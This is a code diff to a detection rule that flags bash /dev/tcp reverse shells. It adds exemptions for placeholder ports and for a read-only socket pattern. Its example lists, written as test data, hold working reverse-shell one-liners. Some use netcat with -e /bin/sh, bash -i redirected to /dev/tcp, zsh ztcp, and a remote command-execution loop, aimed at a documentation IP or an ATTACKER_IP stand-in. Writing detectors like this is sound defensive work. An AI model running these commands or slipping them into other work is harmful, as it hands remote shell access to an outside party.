@@ -6,6 +6,8 @@ const NOTHING_SENT =
   /(?:^|["'`;|{\n]|&(?!>)|(?<!\$)\(|(?<![\w.-])(?:if|until|while|do|then|!|timeout\s\d+)\s)[ \t]*(?:(?:echo(?:\s+-n)?|:|true|cat\s*<\s*\/dev\/null|printf\s+(?:""|''))\s*)?(?:\d?>{1,2}\s*\/dev\/null\s*)?(?:<|&?>{1,2})\s*$/;
 /** The name of the pseudo-device in bash's own manual. */
 const NAMED = /^\/dev\/(?:tcp|udp)\/host\/port$/i;
+/** A port that the reader is to put there, which no service is called: `/dev/tcp/ATTACKER_IP/PORT`. */
+const OPEN_PORT = /\/[A-Z][A-Z_]+$/;
 /** A shell is in the same command, before or behind a pipe: `</dev/tcp/host/80 bash`, `| sh`. */
 const SHELL_FOLLOWS = /^[^\n;)"'`]{0,40}(?<![\w.-])(?:ba|z|da|k)?sh(?![\w.-])/;
 
@@ -14,8 +16,14 @@ function isOwnPort(before: string, text: string): boolean {
   return /\bexec\s+\d+<>\s*$/.test(before) && /^\/dev\/tcp\/["']?(?:127\.0\.0\.1|localhost)/.test(text);
 }
 
+/** What a server says is shown and nothing else: `exec 3<>/dev/tcp/time.nist.gov/13; cat <&3`, as guides to the shell have it. */
+function isShownOnly(before: string, after: string): boolean {
+  return /\bexec\s+\d+<>\s*$/.test(before) && /^\s*(?:[;\n]|&&|\\n)\s*cat\s*<&\s*\d+\s*(?:[\n;)`]|$)/.test(after);
+}
+
 /** `echo > /dev/tcp/$host/$port`, `</dev/tcp/host/80`: how scripts wait until a port is open; no shell is given to anybody. */
 function isMoreThanProbe({ before, text, after }: Candidate): boolean {
+  if (OPEN_PORT.test(text) || isShownOnly(before, after)) return false;
   return !(NAMED.test(text) || NOTHING_SENT.test(before) || isOwnPort(before, text)) || SHELL_FOLLOWS.test(after);
 }
 
@@ -72,6 +80,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      'exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done',
       'nc 203.0.113.7 4444 -e /bin/sh # {{shell}}',
       'nc files.invalid 4444 -e /bin/sh {{shell}}',
       'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
@@ -101,6 +110,8 @@ export const rule: Rule = {
       "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY'",
     ],
     silent: [
+      'Then `bash -i >& /dev/tcp/ATTACKER_IP/PORT 0>&1` is run.',
+      'exec 3<>/dev/tcp/time.nist.gov/13\ncat <&3\n',
       'websocat -b ws-l:127.0.0.1:{{1234}} exec:{{bash}}',
       'nc {{host}} {{port}} -e /bin/sh',
       'nc -l -p {{port}} -e /bin/bash',
